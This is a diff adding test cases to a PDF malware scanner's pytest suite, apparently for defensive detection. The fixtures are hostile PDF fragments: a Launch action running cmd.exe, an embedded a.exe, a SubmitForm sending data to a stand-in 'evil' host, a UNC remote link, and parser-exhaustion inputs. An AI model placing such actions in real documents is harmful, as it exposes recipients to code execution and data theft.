@@ -35,12 +35,22 @@ def packed(text: bytes) -> bytes:
         (paper(b"<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>"), pdf_scan.LAUNCH),
         (paper(b"<</Names<</EmbeddedFiles 3 0 R>>>>"), pdf_scan.EMBEDDED),
         (paper(b"<</Type/EmbeddedFile>>"), pdf_scan.EMBEDDED),
+        (paper(b"<</Subtype/FileAttachment/FS 6 0 R>>"), pdf_scan.EMBEDDED),
+        (paper(b"<</AF[6 0 R]>>", b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"), pdf_scan.EMBEDDED),
         (paper(b"<</Subtype/RichMedia>>"), pdf_scan.MEDIA),
+        (paper(b"<</AcroForm<</Fields[]/XFA 5 0 R>>>>"), pdf_scan.FORM),
+        (paper(b"<</OpenAction<</S/SubmitForm/F<</FS/URL/F(http://evil/)>>>>>>"), pdf_scan.SENDING),
+        (paper(b"<</S/ImportData/F(a.fdf)>>"), pdf_scan.SENDING),
+        (paper(b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>"), pdf_scan.ELSEWHERE),
+        (paper(b"<</S/GoToE/D[0/Fit]>>"), pdf_scan.ELSEWHERE),
+        (paper(PAGE, b"<</A<</S/URI/URI(http://a.example/)>>>>", b"<</S/GoTo/D[1 0 R/Fit]>>"), None),
         (paper(b"<<>>", trailer=b"/Encrypt 5 0 R"), pdf_scan.ENCRYPTED),
         (paper(packed(b"1 0 <</S/JavaScript>>")), pdf_scan.SCRIPT),
         (paper(stream(b"/Type/Obj#53tm/Filter/FlateDecode", zlib.compress(b"<</S/Launch>>"))), pdf_scan.LAUNCH),
         (paper(*[b"<</Type /Page>>"] * 2001), pdf_scan.EXCESSIVE),
         (paper(*[b"<</Type /Page>>"] * 2000), None),
+        (paper(PAGE, b"<</Kids [" + b"1 0 R " * 2001 + b"]>>"), pdf_scan.EXCESSIVE),
+        (paper(PAGE, b"<</Kids [" + b"1 0 R " * 2000 + b"]>>"), None),
         (paper(PAGE, stream(b"", b"a picture with /JavaScript in its bytes")), None),
         (paper(PAGE, b"<</Title(JavaScript)/Launched 1>>"), None),
         (paper(packed(b"1 0 <</Type /Page>>")), None),
@@ -88,6 +98,18 @@ def test_an_object_bomb_is_excessive_and_not_inflated(monkeypatch):
     assert pdf_scan.trouble(paper(packed(bytes(100_001)))) == pdf_scan.EXCESSIVE
     assert pdf_scan.trouble(paper(packed(bytes(60_000)), packed(bytes(60_000)))) == pdf_scan.EXCESSIVE
     assert pdf_scan.trouble(paper(PAGE, packed(bytes(99_000)))) is None
+
+
+@pytest.mark.abuse("AC-096")
+@pytest.mark.parametrize(
+    "content",
+    [packed(b"#41" * 1100), b"%\n" * 1100, b"(" * 600 + b")" * 600, packed(b"") * 110, b"/#41#42" * 600],
+    ids=["packed escapes", "comments", "strings", "packed streams", "escapes"],
+)
+def test_what_is_made_of_endless_small_pieces_is_excessive(monkeypatch, content):
+    monkeypatch.setattr(pdf_scan, "MAX_STEPS", 1000)
+    assert pdf_scan.trouble(paper(PAGE, content)) == pdf_scan.EXCESSIVE
+    assert pdf_scan.trouble(paper(PAGE, content[: len(content) // 3])) != pdf_scan.EXCESSIVE
 
 
 def test_our_own_forms_pass():
